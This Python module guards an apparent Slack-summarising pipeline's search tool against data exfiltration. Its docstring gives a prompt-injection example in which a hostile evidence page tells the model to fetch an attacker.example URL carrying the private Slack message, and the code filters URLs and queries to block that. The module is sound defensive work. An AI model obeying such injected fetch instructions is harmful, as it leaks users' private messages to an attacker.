"""What Stage A's search tool may fetch: the source, and nothing that carries the Slack message out.

The prompt holds the Slack message, which may come from a private channel, and the evidence may be a hostile page
telling the model to fetch `https://attacker.example/?q=<the message>`. So a search reads only:
- a URL written in the evidence itself (the page's own links, verbatim: the model added nothing to them), or
- a URL on the source's own site, without a query string or fragment, and with no word of the message in its path
  that the evidence does not also have;
and an arXiv query keeps only words that are not the message's own (words the evidence also uses stay).
"""

import re
from urllib.parse import urlsplit, urlunsplit

from technoshare_common.schemas import Evidence, SearchRequest

_WORD = re.compile(r"[a-z0-9]{4,}")
_URL = re.compile(r"https?://[^\s<>\"')\]]+")


class SearchRefused(ValueError):
    pass


def _site(host: str) -> str:
    return host.lower().removeprefix("www.")


def _evidence_text(evidence: Evidence) -> str:
    parts = [evidence.title, evidence.text, *(s.text for s in evidence.snippets), *evidence.metadata.values()]
    return "\n".join(parts)


def _evidence_urls(evidence: Evidence) -> set[str]:
    urls = {evidence.url, evidence.final_url, *(source.url for source in evidence.sources)}
    urls |= set(_URL.findall(_evidence_text(evidence)))
    return {url.rstrip(".,;:") for url in urls}


def _private_words(slack_text: str, evidence: Evidence) -> set[str]:
    """Words of the message the evidence does not have: what a fetch must never carry."""
    said = set(_WORD.findall(_URL.sub(" ", slack_text.lower())))
    return said - set(_WORD.findall(_evidence_text(evidence).lower()))


def allowed_search(request: SearchRequest, evidence: Evidence, slack_text: str) -> SearchRequest:
    """The request to send, with what it may not carry removed; SearchRefused when nothing acceptable is left."""
    private = _private_words(slack_text, evidence)
    if request.url is None:
        assert request.query is not None  # SearchRequest holds exactly one of them
        kept = [word for word in request.query.split() if not set(_WORD.findall(word.lower())) & private]
        if len(" ".join(kept)) < 2:
            raise SearchRefused("the query is made of the Slack message's own words")
        return request.model_copy(update={"query": " ".join(kept)})
    url = str(request.url)
    if url.rstrip("/") in {known.rstrip("/") for known in _evidence_urls(evidence)}:
        return request
    parts = urlsplit(url)
    if _site(parts.hostname or "") != _site(urlsplit(evidence.url).hostname or ""):
        raise SearchRefused("only links in the evidence, or on the source's own site, may be read")
    if set(_WORD.findall(parts.path.lower())) & private:
        raise SearchRefused("the link carries words of the Slack message")
    return request.model_copy(update={"url": urlunsplit((parts.scheme, parts.netloc, parts.path, "", ""))})
